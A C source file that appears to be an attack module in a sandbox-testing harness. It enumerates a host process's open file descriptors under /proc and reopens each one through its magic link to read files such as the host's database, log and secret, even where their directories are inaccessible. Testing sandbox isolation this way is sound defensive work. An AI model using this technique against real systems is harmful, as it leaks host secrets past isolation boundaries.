/*
 * leak_host_fds — lists the host's descriptors in /proc/<host_pid>/fd, reports
 * where each leads, and reopens each regular file through its magic link and
 * reads it. Reopening a descriptor by /proc path gets the file even when its
 * directory is out of reach (the host's open database, its log, the secret).
 */
#include "attack.h"

#include <dirent.h>

static sbx_status attack(const atk_input *in, atk_out *out)
{
    char dir_path[64];
    char link_path[320];
    char target[4096];
    long host = atk_param_long(in, "host_pid", -1);
    int found = 0;
    if (host <= 0) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    snprintf(dir_path, sizeof dir_path, "/proc/%ld/fd", host);
    DIR *dir = opendir(dir_path);
    if (dir == NULL) {
        atk_failed(out, dir_path, errno);
        return SBX_ERR_INTERNAL;
    }
    struct dirent *entry;
    while ((entry = readdir(dir)) != NULL) {
        if (entry->d_name[0] == '.') {
            continue;
        }
        snprintf(link_path, sizeof link_path, "%s/%s", dir_path, entry->d_name);
        ssize_t n = readlink(link_path, target, sizeof target - 1);
        if (n <= 0) {
            continue;
        }
        target[n] = '\0';
        atk_printf(out, "host fd %s -> %s\n", entry->d_name, target);
        found = 1;
        if (target[0] == '/') {
            atk_cat(out, target, link_path);
        }
    }
    closedir(dir);
    return found ? SBX_OK : SBX_ERR_INTERNAL;
}

ATK_INVOKE_PLUGIN(attack)
